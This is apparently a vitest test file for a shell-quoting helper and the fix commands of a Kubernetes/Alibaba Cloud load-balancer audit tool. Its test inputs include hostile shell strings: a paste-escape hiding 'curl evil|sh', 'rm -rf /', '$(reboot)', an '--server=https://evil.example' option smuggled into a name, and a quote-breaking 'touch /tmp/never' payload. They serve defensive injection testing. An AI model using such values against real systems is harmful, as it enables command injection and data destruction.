import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auditSnapshot } from '../shared/index.ts';
import { shellWord } from '../shared/rules/commands.ts';
import { readRecordings } from './support/recordings.ts';
import { partsOf, world } from './support/world.ts';

const END = '\u0001';

/** What a real shell makes of words: each as one argument of printf. */
function throughShell(words: readonly string[]): string[] {
  const script = `printf '%s${END}' ${words.join(' ')}`;
  return execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split(END).slice(0, -1);
}

function commandsOf(snapshot: unknown, language: 'en' | 'zh'): string[] {
  return auditSnapshot(snapshot, { language }).findings.flatMap((finding) =>
    finding.fixes.flatMap((fix) => fix.command ?? []),
  );
}

describe('a word of a command', () => {
  it('reaches the program as it is, whatever it holds', () => {
    const text = fc
      .string({ unit: 'grapheme', maxLength: 40 })
      .filter((one) => !['\0', END, '\r'].some((odd) => one.includes(odd)));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 200 }), (texts) => {
        const words = texts.map(shellWord);

        expect(throughShell(words)).toEqual(texts);
      }),
      { numRuns: 40 },
    );
  });

  it.each(['\u001b[201~\rcurl evil|sh\r', 'a\u0003b', 'x\u202ey', '\u001b\n\n', "it's \u0007 100%\\"])(
    'holds nothing that a terminal takes for its own while it is pasted, and is read as it was: %j',
    (text) => {
      const word = shellWord(text);

      expect(word.replaceAll('\n', '')).toMatch(/^[ -~]*$/);
      expect(throughShell([word])).toEqual([text]);
    },
  );

  it.each([`'; rm -rf /; '`, '$(reboot)', '`id`', '--flag', '', "it's", 'a\nb', '*', '~', '#x', '!!'])(
    'stays inert: %j',
    (text) => {
      expect(throughShell([shellWord(text)])).toEqual([text]);
    },
  );
});

describe('the commands of findings', () => {
  const recordings = [...readRecordings('worlds'), ...readRecordings('edges')];

  it('are shell that a shell can parse', () => {
    const commands = new Set(recordings.flatMap((recording) => commandsOf(recording.snapshot, 'en')));

    expect(commands.size).toBeGreaterThan(1000);
    expect(() => execFileSync('sh', ['-n'], { input: [...commands].join('\n') })).not.toThrow();
  });

  it('are the same in both languages, and never set or remove nothing', () => {
    for (const { snapshot } of recordings) {
      const commands = commandsOf(snapshot, 'en');

      expect(commandsOf(snapshot, 'zh')).toEqual(commands);
      for (const command of commands) expect(command).not.toMatch(/annotate service \S+ --overwrite$/);
    }
  });

  it('have no name of the cloud or of a cluster that a program could take for an option', () => {
    const hostile = '--server=https://evil.example';
    const edited = world();
    const { service, loadBalancer, cluster } = partsOf(edited);
    service.metadata.name = hostile;
    service.metadata.namespace = hostile;
    service.metadata.annotations = {
      'service.beta.kubernetes.io/alibaba-cloud-loadbalancer-name': hostile,
      'service.beta.kubernetes.io/alibaba-cloud-loadbalancer-force-override-listeners': hostile,
    };
    loadBalancer.LoadBalancerName = `${hostile}2`;
    cluster.kubernetes.endpointSlices.items = [];

    const words = commandsOf(edited, 'en').map((command) => throughShell([command]));

    expect(words.flat().filter((word) => word.includes(hostile)).length).toBeGreaterThan(5);
    for (const command of words) {
      command.forEach((word, index) => {
        // The value of -n is taken as it is, whatever it begins with.
        if (word.startsWith(hostile)) expect(command[index - 1]).toBe('-n');
      });
    }
    expect(words.flat()).toContain(`service/${hostile}`);
    expect(words.flat()).toContain(`--LoadBalancerName=${hostile}`);
  });

  it('keep a hostile name of the cloud inside one word', () => {
    const hostile = `x'; touch /tmp/never; echo '$(id)`;
    const edited = world();
    const { service, loadBalancer } = partsOf(edited);
    service.metadata.annotations = {
      'service.beta.kubernetes.io/alibaba-cloud-loadbalancer-name': hostile,
    };
    loadBalancer.LoadBalancerName = `${hostile}2`;

    const [adopt = '', revert = ''] = commandsOf(edited, 'en');

    expect(throughShell([adopt])).toContain(
      `service.beta.kubernetes.io/alibaba-cloud-loadbalancer-name=${hostile}2`,
    );
    expect(throughShell([revert])).toContain(hostile);
  });
});
